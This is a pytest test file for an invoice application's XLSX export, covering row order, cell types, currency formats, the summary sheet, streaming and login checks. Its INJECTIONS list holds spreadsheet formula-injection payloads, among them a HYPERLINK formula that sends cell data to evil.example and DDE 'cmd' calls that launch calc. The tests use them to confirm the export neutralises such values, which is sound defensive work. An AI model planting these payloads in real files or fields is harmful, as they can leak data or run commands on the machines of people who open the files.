"""XLSX export of the filtered invoice list: rows, types, formats, safety, streaming.

Today is frozen at 2025-07-15 12:00 UTC, so INV-X02 (DUE, due 2025-07-10) reads
as OVER_DUE.
"""

from __future__ import annotations

import io
from datetime import UTC, date, datetime
from decimal import Decimal
from types import SimpleNamespace

import openpyxl
import pytest
import time_machine

from invoice_app.billing.exports import XLSX_BATCH
from invoice_app.demo.load import seed_demo
from invoice_app.exports import xlsx
from invoice_app.exports.summary import ExportContext
from invoice_app.extensions import db
from invoice_app.filters import InvoiceFilters
from invoice_app.models import Invoice

TODAY = datetime(2025, 7, 15, 12, 0, tzinfo=UTC)
INJECTIONS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click me")',
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "#N/A",
    "＝1+1",
]


@pytest.fixture(autouse=True)
def frozen_today():
    with time_machine.travel(TODAY, tick=False):
        yield


@pytest.fixture
def invoices(make_invoice):
    """Seven invoices in four currencies, a credit note and hostile client names."""
    specs = [
        ("INV-X01", "Acme Analytics", "2025-05-01", "PAID", "USD", "100.50", "100.50"),
        ("INV-X02", "Müller GmbH", "2025-06-01", "DUE", "EUR", "200", "180.25"),
        ("INV-X03", INJECTIONS[0], "2025-04-01", "DUE", "JPY", "5000", "5000"),
        ("INV-X04", "+SUM(1,2)", "2025-06-01", "DRAFT", "USD", "10", "10"),
        ("INV-X05", "Bad\x01Name\x1f Ltd", "2025-03-01", "CANCEL", "GBP", "75", "75"),
        ("INV-X06", "Credit Co", "2025-06-01", "DUE", "USD", "0", "-40.00"),
        ("INV-X07", "Kuwait Oil", "2025-06-01", "DUE", "KWD", "1.234", "1.234"),
    ]
    made = []
    for number, name, period, status, currency, usage, payable in specs:
        due = date(2025, 7, 10) if number == "INV-X02" else date(2025, 8, 1)
        made.append(
            make_invoice(
                number=number,
                client_name=name,
                client_email=f"{number.lower()}@example.test",
                billing_period=date.fromisoformat(period),
                status=status,
                currency=currency,
                usage_cost=Decimal(usage),
                payable=Decimal(payable),
                issue_date=None if status == "DRAFT" else date(2025, 6, 1),
                due_date=due,
                paid_date=date(2025, 6, 20) if status == "PAID" else None,
            )
        )
    return made


def export(client, query: str = ""):
    response = client.get(f"/billing/invoices/export.xlsx{query}")
    assert response.status_code == 200, response.get_data(as_text=True)[:500]
    return openpyxl.load_workbook(io.BytesIO(response.get_data()))


def api_rows(client, query: str) -> list[dict]:
    """Every API row for the filters, page by page."""
    rows, page = [], 1
    sep = "&" if query else "?"
    while True:
        data = client.get(f"/api/invoices{query}{sep}per_page=200&page={page}").json
        rows += data["items"]
        if len(rows) >= data["total"]:
            return rows
        page += 1


# The optional columns (columns.py) that give a file every field the API has.
EVERY_FIELD = "columns=client_email,currency,issue_date"


def with_every_field(query: str) -> str:
    return f"{query}&{EVERY_FIELD}" if query else f"?{EVERY_FIELD}"


def as_api(cells: tuple) -> dict:
    """One XLSX row (with EVERY_FIELD) in the API's shape (amounts, ISO dates)."""
    (
        number,
        name,
        period,
        usage,
        payable,
        due,
        status,
        paid,
        email,
        currency,
        issued,
    ) = cells

    def day(value):
        return value.date().isoformat() if value else None

    return {
        "number": number,
        "client_name": name,
        "client_email": email,
        "billing_period": period.strftime("%Y-%m"),
        "currency": currency,
        "usage_cost": Decimal(str(usage)),
        "payable": Decimal(str(payable)),
        "issue_date": day(issued),
        "due_date": day(due),
        "status": status,
        "paid_date": day(paid),
    }


@pytest.mark.parametrize(
    "query",
    [
        "",
        "?status=OVER_DUE",
        "?status=DUE&sort=-payable",
        "?q=acme",
        "?sort=client",
        "?date_field=period&date_from=2025-05&date_to=2025-06&sort=number",
        "?date_field=due&date_from=2025-08-01&date_to=2025-08-31&sort=-usage_cost",
        "?page=2&per_page=2",
    ],
)
def test_every_matching_row_in_table_order(client, auth, invoices, query):
    auth.login()
    sheet = export(client, with_every_field(query))["Invoices"]
    rows = list(sheet.iter_rows(min_row=2, values_only=True))
    # Paging parameters are accepted and ignored: the export has every row.
    expected = api_rows(client, "" if "page=" in query else query)
    assert [as_api(r)["number"] for r in rows] == [e["number"] for e in expected]
    for row, api in zip(rows, expected, strict=True):
        got = as_api(row)
        api = {**api, "client_name": api["client_name"].replace("\x01", "")}
        api["client_name"] = api["client_name"].replace("\x1f", "")
        api["usage_cost"] = Decimal(api["usage_cost"])
        api["payable"] = Decimal(api["payable"])
        assert got == api


def test_header_types_and_formats(client, auth, invoices):
    auth.login()
    sheet = export(client, "?sort=number")["Invoices"]
    # Without optional columns chosen: the fixed ones only.
    assert [cell.value for cell in sheet[1]] == [title for title, _ in xlsx.COLUMNS]
    assert sheet.auto_filter.ref == "A1:H8"
    sheet = export(client, f"?sort=number&{EVERY_FIELD}")["Invoices"]
    header = [cell.value for cell in sheet[1]]
    assert header == [title for title, _ in xlsx.COLUMNS] + [
        "Client e-mail",
        "Currency",
        "Issue date",
    ]
    assert all(cell.font.b for cell in sheet[1])
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:K8"
    assert sheet.column_dimensions["B"].width == 34
    assert sheet.column_dimensions["I"].width == 32
    first = {c.column_letter: c for c in sheet[2]}  # INV-X01, USD, PAID
    assert first["C"].is_date and first["C"].number_format == "yyyy-mm"
    assert first["C"].value == datetime(2025, 5, 1)
    for letter in "FHK":
        assert first[letter].is_date and first[letter].number_format == "yyyy-mm-dd"
    assert first["D"].data_type == "n" and first["D"].value == 100.5
    assert first["D"].number_format == '#,##0.00 "USD"'
    jpy = {c.column_letter: c for c in sheet[4]}
    assert jpy["E"].number_format == '#,##0 "JPY"' and jpy["E"].value == 5000
    kwd = {c.column_letter: c for c in sheet[8]}
    assert kwd["E"].number_format == '#,##0.000 "KWD"' and kwd["E"].value == 1.234
    credit = {c.column_letter: c for c in sheet[7]}
    assert credit["E"].data_type == "n" and credit["E"].value == -40
    draft = {c.column_letter: c for c in sheet[5]}
    assert draft["H"].value is None and draft["K"].value is None
    assert {c.column_letter: c.value for c in sheet[3]}["G"] == "OVER_DUE"


@pytest.mark.parametrize("text", INJECTIONS)
def test_formula_triggers_stay_text(app, text):
    """A hostile value keeps its text, is a string cell and has the quote prefix."""
    row = fake_row(name=text, email=text, number=text)
    book = openpyxl.load_workbook(io.BytesIO(b"".join(stream([row]))))
    cells = book["Invoices"][2]
    for cell in (cells[0], cells[1], cells[8]):  # number, name, e-mail
        assert cell.data_type == "s"
        assert cell.value == text
        assert cell.quotePrefix is True
    search = next(r for r in book["Export info"].iter_rows() if r[0].value == "Search")
    assert search[1].value == "=cmd" and search[1].quotePrefix is True


def test_plain_text_has_no_quote_prefix_and_amounts_stay_numbers(app):
    rows = [fake_row(name="Acme-1", payable=Decimal("-12.50"))]
    cells = openpyxl.load_workbook(io.BytesIO(b"".join(stream(rows))))["Invoices"][2]
    assert cells[1].value == "Acme-1" and not cells[1].quotePrefix
    assert cells[4].data_type == "n" and cells[4].value == -12.5


def test_control_characters_are_dropped(client, auth, invoices):
    auth.login()
    names = [c.value for c in export(client, "?status=CANCEL")["Invoices"]["B"]]
    assert names == ["Client name", "BadName Ltd"]


def test_info_sheet_records_filters_user_time_and_totals(client, auth, invoices):
    auth.login("staff")
    info = export(client, "?status=DUE&q=credit&sort=-payable")["Export info"]
    values = [row for row in info.iter_rows(values_only=True) if any(row)]
    pairs = [(row[0], row[1]) for row in values]
    assert ("Generated at (UTC)", datetime(2025, 7, 15, 12, 0)) in pairs
    assert ("Generated by", "staff@example.test") in pairs
    assert ("Invoices", 1) in pairs
    assert ("Status", "DUE") in pairs
    assert ("Search", "credit") in pairs
    assert ("Sorted by", "Payable, descending") in pairs
    assert [r for r in values if r[0] == "DUE"] == [("DUE", "USD", 1, 0, -40)]


def test_info_totals_per_status_and_currency(client, auth, invoices):
    auth.login()
    info = export(client)["Export info"]
    rows = [r for r in info.iter_rows(values_only=True) if r[0] and r[2]]
    per_status = {(r[0], r[1]): (r[2], r[3], r[4]) for r in rows if r[0] != "All"}
    assert per_status[("OVER_DUE", "EUR")] == (1, 200, 180.25)
    assert per_status[("DUE", "USD")] == (1, 0, -40)
    assert per_status[("PAID", "USD")] == (1, 100.5, 100.5)
    per_currency = {r[1]: (r[2], r[3], r[4]) for r in rows if r[0] == "All"}
    assert per_currency["USD"] == (3, 110.5, 70.5)
    assert set(per_currency) == {"EUR", "GBP", "JPY", "KWD", "USD"}


def test_file_name_response_headers_and_streaming(client, auth, invoices):
    auth.login()
    response = client.get("/billing/invoices/export.xlsx?status=due&q=Acme Cloud")
    assert response.status_code == 200
    assert response.is_streamed
    assert response.mimetype == xlsx.XLSX_MIMETYPE
    assert response.headers["Content-Disposition"] == (
        'attachment; filename="invoices-2025-07-15-due-acme-cloud.xlsx"'
    )
    assert "no-store" in response.headers["Cache-Control"]
    assert response.get_data().startswith(b"PK")  # runs the stream to its end
    plain = client.get("/billing/invoices/export.xlsx")
    plain.close()
    assert 'filename="invoices-2025-07-15.xlsx"' in plain.headers["Content-Disposition"]


def test_first_bytes_leave_before_the_last_row_is_read(app):
    """The download starts while rows are still being read from the database."""
    read = 0

    def rows():
        nonlocal read
        for i in range(3 * xlsx.FLUSH_EVERY):
            read += 1
            yield fake_row(number=f"INV-{i}")

    chunks = stream(rows())
    first = next(chunks)
    assert first.startswith(b"PK") and read <= xlsx.FLUSH_EVERY + 1
    rest = b"".join(chunks)
    sheet = openpyxl.load_workbook(io.BytesIO(first + rest))["Invoices"]
    assert sheet.max_row == 3 * xlsx.FLUSH_EVERY + 1


def test_empty_result_is_a_valid_workbook(client, auth, invoices):
    auth.login()
    book = export(client, "?q=no-such-invoice")
    assert book["Invoices"].max_row == 1
    assert book.sheetnames == ["Invoices", "Export info"]


@pytest.mark.parametrize(
    "query",
    ["status=LATE", "sort=colour", "date_from=2025-13-01", "page=0", "per_page=-1"],
)
@pytest.mark.parametrize("kind", ["xlsx", "pdf"])
def test_bad_parameters_answer_400_like_the_table(client, auth, query, kind):
    auth.login()
    table = client.get(f"/billing/invoices?{query}")
    response = client.get(f"/billing/invoices/export.{kind}?{query}")
    assert table.status_code == response.status_code == 400


@pytest.mark.parametrize(
    "path", ["export.xlsx", "export.pdf", "INV-X01.pdf", "export.xlsx?status=DUE"]
)
def test_exports_need_a_login(client, invoices, path):
    response = client.get(f"/billing/invoices/{path}")
    assert response.status_code == 302
    assert response.headers["Location"].startswith("/login")


def test_export_links_carry_the_filters_on_the_page_and_after_swaps(
    client, auth, invoices
):
    auth.login("staff")
    page = client.get("/billing/invoices?status=DUE&q=co&page=1&per_page=50")
    html = page.get_data(as_text=True)
    head = html[html.index('class="page-head"') : html.index('id="invoice-filters"')]
    assert 'id="export-links"' in head
    assert 'href="/billing/invoices/export.xlsx?status=DUE&amp;q=co"' in head
    assert 'href="/billing/invoices/export.pdf?status=DUE&amp;q=co"' in head
    fragment = client.get(
        "/billing/invoices?status=PAID&sort=number", headers={"HX-Request": "true"}
    ).get_data(as_text=True)
    assert '<div id="export-links"' in fragment and 'hx-swap-oob="true"' in fragment
    assert "/billing/invoices/export.xlsx?status=PAID&amp;sort=number" in fragment
    # Bad filters keep the last good table, so the links stay as they were.
    bad = client.get("/billing/invoices?status=LATE", headers={"HX-Request": "true"})
    assert bad.status_code == 400 and "export-links" not in bad.get_data(as_text=True)


def test_download_links_on_rows_and_detail(client, auth, invoices):
    auth.login("staff")
    html = client.get("/billing/invoices").get_data(as_text=True)
    assert 'href="/billing/invoices/INV-X01.pdf"' in html
    detail = client.get("/billing/invoices/INV-X01").get_data(as_text=True)
    assert 'href="/billing/invoices/INV-X01.pdf"' in detail


# Helpers for the renderer-level tests: rows shaped like invoice_query() rows.


def fake_row(
    number="INV-1", name="Acme", email="a@example.test", payable=Decimal("10")
):
    """A row as export_rows() gives it."""
    return SimpleNamespace(
        number=number,
        client_name=name,
        client_email=email,
        billing_period=date(2025, 5, 1),
        currency="USD",
        usage_cost=Decimal("10"),
        payable=payable,
        issue_date=date(2025, 6, 1),
        due_date=date(2025, 6, 30),
        effective_status="DUE",
        paid_date=None,
    )


def stream(rows):
    context = ExportContext(
        InvoiceFilters(q="=cmd", columns=("client_email",)),
        datetime(2025, 7, 15, 12, tzinfo=UTC),
        "a@b.test",
    )
    return xlsx.stream_invoices_xlsx(rows, context)


def test_export_of_many_batches_has_every_row(client, auth):
    """More rows than one database batch: the stream reads them all, in order."""
    auth.login("staff")
    seed_demo(XLSX_BATCH * 2 + 3, date(2025, 7, 15))
    numbers = db.session.scalars(
        db.select(Invoice.number).order_by(Invoice.number.desc())
    ).all()
    sheet = export(client, "?sort=-number")["Invoices"]
    got = [r[0] for r in sheet.iter_rows(min_row=2, max_col=1, values_only=True)]
    assert got == numbers
